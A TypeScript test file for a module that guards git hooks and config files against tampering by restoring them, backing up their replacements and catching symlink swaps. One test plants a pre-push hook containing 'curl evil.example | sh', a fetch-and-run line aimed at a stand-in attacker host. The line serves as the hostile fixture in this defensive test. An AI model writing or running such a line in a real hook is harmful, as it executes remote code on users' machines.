import assert from 'node:assert/strict';
import { chmodSync, existsSync, lstatSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { suite, test } from 'node:test';
import type { TestContext } from 'node:test';
import { readWatchedFiles, restoreWatchedFile } from '../../../../src/git/guard/watchedFiles.ts';
import { temporaryFolder } from '../../../support/journalFixture.ts';

async function gitFolder(t: Pick<TestContext, 'after'>) {
  const home = await temporaryFolder(t);
  const common = path.join(home, '.git');
  mkdirSync(path.join(common, 'hooks'), { recursive: true });
  mkdirSync(path.join(common, 'info'));
  writeFileSync(path.join(common, 'config'), '[core]\n\tbare = false\n');
  writeFileSync(path.join(common, 'hooks', 'pre-push'), '#!/bin/sh\n', { mode: 0o755 });
  return { common, backup: path.join(home, 'backup'), place: (name: string) => path.join(common, ...name.split('/')) };
}

suite('files that steer what git does for everybody', () => {
  test('come back byte for byte and may be run as before, and what replaced them is kept', async (t) => {
    const { common, backup, place } = await gitFolder(t);
    const before = readWatchedFiles(common);
    assert.deepEqual(Object.keys(before), ['config', 'hooks/pre-push']);
    writeFileSync(place('hooks/pre-push'), 'curl evil.example | sh\n');
    chmodSync(place('hooks/pre-push'), 0o644);
    assert.equal(await restoreWatchedFile(common, 'hooks/pre-push', before['hooks/pre-push'], backup), true);
    assert.deepEqual(readWatchedFiles(common), before);
    assert.equal(readFileSync(path.join(backup, 'hooks', 'pre-push'), 'utf8'), 'curl evil.example | sh\n');
  });

  test('that were not there go again, with a copy left', async (t) => {
    const { common, backup, place } = await gitFolder(t);
    writeFileSync(place('hooks/post-checkout'), 'x');
    await restoreWatchedFile(common, 'hooks/post-checkout', undefined, backup);
    assert.equal(existsSync(place('hooks/post-checkout')), false);
    assert.equal(readFileSync(path.join(backup, 'hooks', 'post-checkout'), 'utf8'), 'x');
  });

  test('that were removed come back in folders that were removed', async (t) => {
    const { common, backup, place } = await gitFolder(t);
    const before = readWatchedFiles(common);
    rmSync(place('hooks'), { recursive: true });
    await restoreWatchedFile(common, 'hooks/pre-push', before['hooks/pre-push'], backup);
    assert.deepEqual(readWatchedFiles(common), before);
  });

  test('that were replaced by a link are noticed although the content is the same, and are files again', async (t) => {
    const { common, backup, place } = await gitFolder(t);
    const before = readWatchedFiles(common);
    const elsewhere = place('elsewhere');
    writeFileSync(elsewhere, readFileSync(place('config')));
    rmSync(place('config'));
    symlinkSync(elsewhere, place('config'));
    assert.notEqual(readWatchedFiles(common)['config']?.hash, before['config']?.hash);
    await restoreWatchedFile(common, 'config', before['config'], backup);
    assert.equal(lstatSync(place('config')).isSymbolicLink(), false);
    assert.equal(
      readFileSync(elsewhere, 'utf8'),
      readFileSync(place('config'), 'utf8'),
      'nothing was written through it',
    );
  });

  test('that were too large to be kept are noticed, and said not to be put back', async (t) => {
    const { common, backup, place } = await gitFolder(t);
    writeFileSync(place('info/exclude'), 'x\n'.repeat(600_000));
    const before = readWatchedFiles(common);
    assert.equal(before['info/exclude']?.content, undefined);
    writeFileSync(place('info/exclude'), 'small');
    assert.notEqual(readWatchedFiles(common)['info/exclude']?.hash, before['info/exclude']?.hash);
    assert.equal(await restoreWatchedFile(common, 'info/exclude', before['info/exclude'], backup), false);
    assert.equal(readFileSync(place('info/exclude'), 'utf8'), 'small');
  });

  test('are those git reads, and a folder in the place of one is none', async (t) => {
    const { common, place } = await gitFolder(t);
    mkdirSync(place('objects/info'), { recursive: true });
    for (const name of ['config.worktree', 'info/attributes', 'info/grafts', 'objects/info/alternates', 'description'])
      writeFileSync(place(name), name);
    mkdirSync(place('hooks/folder'));
    assert.deepEqual(Object.keys(readWatchedFiles(common)).sort(), [
      'config',
      'config.worktree',
      'hooks/pre-push',
      'info/attributes',
      'info/grafts',
      'objects/info/alternates',
    ]);
  });
});
